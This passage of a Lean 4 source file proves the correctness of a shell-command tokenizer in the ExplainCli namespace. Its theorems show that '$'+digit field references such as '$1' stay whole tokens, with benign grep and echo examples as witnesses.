    (cur : Option (List Char)) (acc : List (List Char)) (rest : List Char) :
    shlexCore .norm cur acc (c :: rest) =
      shlexCore .norm (some (cur.getD [] ++ [c])) acc rest := by
  obtain ⟨h1, h2, h3, h4⟩ := plainShChar_elim hc
  rw [shlexCore_norm_cons]
  rw [if_neg h1, if_neg h2, if_neg h3, if_neg h4]

theorem shlexCore_plain_run : ∀ (t : List Char), t ≠ [] → t.all plainShChar = true →
    ∀ (cur : Option (List Char)) (acc : List (List Char)) (rest : List Char),
      shlexCore .norm cur acc (t ++ rest) =
        shlexCore .norm (some (cur.getD [] ++ t)) acc rest := by
  intro t
  induction t with
  | nil => intro h; exact absurd rfl h
  | cons c t2 ih =>
    intro _ hp cur acc rest
    simp only [List.all_cons, Bool.and_eq_true] at hp
    rw [List.cons_append, shlexCore_plain_char c hp.1]
    cases t2 with
    | nil => simp
    | cons c2 t3 =>
      rw [ih (by simp) hp.2]
      simp [List.append_assoc]

theorem shlexCore_runs : ∀ (pruns : List (List Char)),
    (∀ r ∈ pruns, r ≠ [] ∧ r.all plainShChar = true) →
    ∀ acc : List (List Char),
      shlexCore .norm none acc (joinRuns pruns) = some (acc ++ pruns) := by
  intro pruns
  induction pruns with
  | nil =>
    intro _ acc
    simp [joinRuns, shlexCore_norm_nil]
  | cons r rs ih =>
    intro h acc
    obtain ⟨hne, hp⟩ := h r (List.mem_cons_self _ _)
    cases rs with
    | nil =>
      rw [show joinRuns [r] = r ++ [] from by simp [joinRuns]]
      rw [shlexCore_plain_run r hne hp none acc []]
      rw [shlexCore_norm_nil]
      simp
    | cons r2 rs2 =>
      rw [joinRuns_cons_ne r (r2 :: rs2) (by simp)]
      rw [shlexCore_plain_run r hne hp none acc _]
      rw [shlexCore_norm_cons]
      rw [if_pos (by simp [shWs])]
      simp only [Option.getD_none, List.nil_append]
      rw [ih (fun q hq => h q (List.mem_cons_of_mem _ hq)) (acc ++ [r])]
      simp

theorem shlexSplit_joinRuns (pruns : List (List Char))
    (h : ∀ r ∈ pruns, r ≠ [] ∧ r.all plainShChar = true) :
    shlexSplit (joinRuns pruns) = some pruns := by
  unfold shlexSplit
  have := shlexCore_runs pruns h []
  simpa using this

theorem digit_plainShChar (c : Char) (h : c.isDigit = true) : plainShChar c = true := by
  unfold plainShChar shWs
  have h32 : c ≠ ' ' := by rintro rfl; exact absurd h (by decide)
  have h9 : c ≠ '\t' := by rintro rfl; exact absurd h (by decide)
  have h13 : c ≠ '\r' := by rintro rfl; exact absurd h (by decide)
  have h10 : c ≠ '\n' := by rintro rfl; exact absurd h (by decide)
  have hq : c ≠ '\'' := by rintro rfl; exact absurd h (by decide)
  have hdq : c ≠ '"' := by rintro rfl; exact absurd h (by decide)
  have hbs : c ≠ '\\' := by rintro rfl; exact absurd h (by decide)
  simp [h32, h9, h13, h10, hq, hdq, hbs]

theorem marker_plain (n : Nat) : (markerStr n).data.all plainShChar = true := by
  rw [markerStr_data]
  simp only [List.all_append, Bool.and_eq_true]
  refine ⟨⟨by decide, ?_⟩, by decide⟩
  have hd := natDecimal_all_digits n
  rw [List.all_eq_true] at hd ⊢
  intro c hcmem
  exact digit_plainShChar c (hd c hcmem)

theorem protectRuns_tokens_plain (runs : List (List Char)) : ∀ n : Nat,
    (∀ r ∈ runs, r ≠ [] ∧ r.all plainShChar = true) →
    ∀ t ∈ (protectRuns runs n).1, t ≠ [] ∧ t.all plainShChar = true := by
  induction runs with
  | nil =>
    intro n _ t ht
    rw [protectRuns_nil] at ht
    simp at ht
  | cons r rs ih =>
    intro n h t ht
    by_cases hf : isFieldRun r = true
    · rw [protectRuns_cons_field _ _ _ hf] at ht
      rcases List.mem_cons.mp ht with rfl | ht2
      · refine ⟨?_, marker_plain n⟩
        rw [marker_cons_form]
        simp
      · exact ih (n + 1) (fun q hq => h q (List.mem_cons_of_mem _ hq)) t ht2
    · rw [protectRuns_cons_plain _ _ _ (Bool.not_eq_true _ |>.mp hf)] at ht
      rcases List.mem_cons.mp ht with rfl | ht2
      · exact h t (List.mem_cons_self _ _)
      · exact ih n (fun q hq => h q (List.mem_cons_of_mem _ hq)) t ht2

theorem protectRuns_pairs_marker (runs : List (List Char)) : ∀ n : Nat,
    ∀ p ∈ (protectRuns runs n).2, ∃ m : Nat, n ≤ m ∧ p.1 = (markerStr m).data := by
  induction runs with
  | nil =>
    intro n p hp
    rw [protectRuns_nil] at hp
    simp at hp
  | cons r rs ih =>
    intro n p hp
    by_cases hf : isFieldRun r = true
    · rw [protectRuns_cons_field _ _ _ hf] at hp
      rcases List.mem_cons.mp hp with rfl | hp2
      · exact ⟨n, le_refl n, rfl⟩
      · obtain ⟨m, hm1, hm2⟩ := ih (n + 1) p hp2
        exact ⟨m, by omega, hm2⟩
    · rw [protectRuns_cons_plain _ _ _ (Bool.not_eq_true _ |>.mp hf)] at hp
      exact ih n p hp

end ExplainCli

namespace ExplainCli

theorem restore_skip_markers (ps1 : List (List Char × List Char)) (k : Nat)
    (h : ∀ p ∈ ps1, ∃ m : Nat, p.1 = (markerStr m).data ∧ m ≠ k) :
    restoreToken ps1 (markerStr k).data = (markerStr k).data := by
  induction ps1 with
  | nil => rfl
  | cons p ps ih =>
    rw [restoreToken_cons]
    obtain ⟨m, hm, hne⟩ := h p (List.mem_cons_self _ _)
    rw [hm, replaceAll_no_occur _ _ _ (marker_no_sub hne)]
    exact ih (fun q hq => h q (List.mem_cons_of_mem _ hq))

theorem marker_ne_nil (n : Nat) : (markerStr n).data ≠ [] := by
  rw [marker_cons_form]
  simp

theorem protectRuns_restore (runs : List (List Char)) : ∀ n : Nat,
    (∀ r ∈ runs, isFieldRun r = true ∨ listHasSub r mStem = false) →
    ∀ ps1 : List (List Char × List Char),
      (∀ p ∈ ps1, ∃ m : Nat, m < n ∧ p.1 = (markerStr m).data) →
      ((protectRuns runs n).1).map (restoreToken (ps1 ++ (protectRuns runs n).2)) =
        runs := by
  induction runs with
  | nil =>
    intro n _ ps1 _
    rw [protectRuns_nil]
    rfl
  | cons r rs ih =>
    intro n hc ps1 hps1
    have hrs : ∀ q ∈ rs, isFieldRun q = true ∨ listHasSub q mStem = false :=
      fun q hq => hc q (List.mem_cons_of_mem _ hq)
    by_cases hf : isFieldRun r = true
    · obtain ⟨ds, hds, hdne, hdd⟩ := isFieldRun_elim hf
      rw [protectRuns_cons_field _ _ _ hf]
      rw [List.map_cons]
      have hhead : restoreToken (ps1 ++ ((markerStr n).data, r) :: (protectRuns rs (n + 1)).2)
          (markerStr n).data = r := by
        rw [restoreToken_append]
        rw [restore_skip_markers ps1 n (by
          intro p hp
          obtain ⟨m, hm1, hm2⟩ := hps1 p hp
          exact ⟨m, hm2, by omega⟩)]
        rw [restoreToken_cons]
        rw [replaceAll_self _ _ (marker_ne_nil n)]
        rw [hds]
        exact restore_dollar_digits _ ds
          (fun q hq => by
            obtain ⟨m, _, hm⟩ := protectRuns_pairs_marker rs (n + 1) q hq
            exact ⟨m, hm⟩) hdd
      rw [hhead]
      have htail : ((protectRuns rs (n + 1)).1).map
          (restoreToken (ps1 ++ ((markerStr n).data, r) :: (protectRuns rs (n + 1)).2)) =
          rs := by
        rw [show ps1 ++ ((markerStr n).data, r) :: (protectRuns rs (n + 1)).2 =
          (ps1 ++ [((markerStr n).data, r)]) ++ (protectRuns rs (n + 1)).2 from by simp]
        exact ih (n + 1) hrs (ps1 ++ [((markerStr n).data, r)]) (by
          intro p hp
          rcases List.mem_append.mp hp with hp1 | hp1
          · obtain ⟨m, hm1, hm2⟩ := hps1 p hp1
            exact ⟨m, by omega, hm2⟩
          · rw [List.mem_singleton] at hp1
            subst hp1
            exact ⟨n, by omega, rfl⟩)
      rw [htail]
    · have hfb : isFieldRun r = false := Bool.not_eq_true _ |>.mp hf
      have hstem : listHasSub r mStem = false := by
        rcases hc r (List.mem_cons_self _ _) with h1 | h1
        · rw [h1] at hfb
          exact Bool.noConfusion hfb
        · exact h1
      rw [protectRuns_cons_plain _ _ _ hfb]
      rw [List.map_cons]
      have hhead : restoreToken (ps1 ++ (protectRuns rs n).2) r = r := by
        apply restore_plain_token
        · intro p hp
          rcases List.mem_append.mp hp with hp1 | hp1
          · obtain ⟨m, _, hm⟩ := hps1 p hp1
            exact ⟨m, hm⟩
          · obtain ⟨m, _, hm⟩ := protectRuns_pairs_marker rs n p hp1
            exact ⟨m, hm⟩
        · exact hstem
      rw [hhead]
      rw [ih n hrs ps1 hps1]

/-- The restricted tokenization statement: for an input made of nonempty
space-separated runs of plain characters, each run either a full `$`+digits
field reference or free of `$`-digit adjacencies and of the placeholder stem,
tokenization returns exactly the runs. -/
theorem tokenizeRuns (runs : List (List Char))
    (h : ∀ r ∈ runs, r ≠ [] ∧ r.all plainShChar = true ∧
      (isFieldRun r = true ∨
        (noDollarDigit r = true ∧ listHasSub r mStem = false))) :
    tokenize_command (String.mk (joinRuns runs)) = runs.map String.mk := by
  have hprot := protectAux_joinRuns runs 0 (fun r hr =>
    ((h r hr).2.2).elim (fun hf => Or.inl hf) (fun hp => Or.inr hp.1))
  have hplain : ∀ r ∈ runs, r ≠ [] ∧ r.all plainShChar = true :=
    fun r hr => ⟨(h r hr).1, (h r hr).2.1⟩
  have htok := protectRuns_tokens_plain runs 0 hplain
  have hsplit := shlexSplit_joinRuns _ htok
  have hres := protectRuns_restore runs 0 (fun r hr =>
    ((h r hr).2.2).elim (fun hf => Or.inl hf) (fun hp => Or.inr hp.2)) [] (by simp)
  rw [List.nil_append] at hres
  simp only [tokenize_command]
  rw [hprot]
  simp only
  rw [hsplit]
  simp only
  conv_rhs => rw [← hres, List.map_map]
  rfl

end ExplainCli

namespace ExplainCli

/-- C3: tokenization never splits a `$`+digits field reference across tokens:
on an input made of space-separated runs of plain (unquoted, unescaped)
characters in which every `$`-digit occurrence is a whole run `$ds` (and the
other runs contain neither a `$`-digit adjacency nor the placeholder stem),
the tokens are exactly the runs - each `$N` survives as one complete token;
in particular `grep $1 file.txt` tokenizes to `grep`, `$1`, `file.txt`. -/
theorem c3_dollar_digit_preserved (runs : List (List Char))
    (h : ∀ r ∈ runs, r ≠ [] ∧ r.all plainShChar = true ∧
      (isFieldRun r = true ∨
        (noDollarDigit r = true ∧ listHasSub r mStem = false))) :
    tokenize_command (String.mk (joinRuns runs)) = runs.map String.mk ∧
    tokenize_command "grep $1 file.txt" = ["grep", "$1", "file.txt"] := by
  refine ⟨tokenizeRuns runs h, ?_⟩
  have hc := tokenizeRuns
    [['g', 'r', 'e', 'p'], ['$', '1'], ['f', 'i', 'l', 'e', '.', 't', 'x', 't']]
    (by decide)
  rw [show String.mk (joinRuns
      [['g', 'r', 'e', 'p'], ['$', '1'], ['f', 'i', 'l', 'e', '.', 't', 'x', 't']]) =
    "grep $1 file.txt" from by decide] at hc
  rw [hc]
  decide

/-- Witness for C3 at a concrete runs list containing a multi-digit field
reference. -/
theorem c3_witness :
    tokenize_command (String.mk (joinRuns [['e', 'c', 'h', 'o'], ['$', '2', '5']])) =
      [['e', 'c', 'h', 'o'], ['$', '2', '5']].map String.mk ∧
    tokenize_command "grep $1 file.txt" = ["grep", "$1", "file.txt"] :=
  c3_dollar_digit_preserved [['e', 'c', 'h', 'o'], ['$', '2', '5']] (by decide)

end ExplainCli
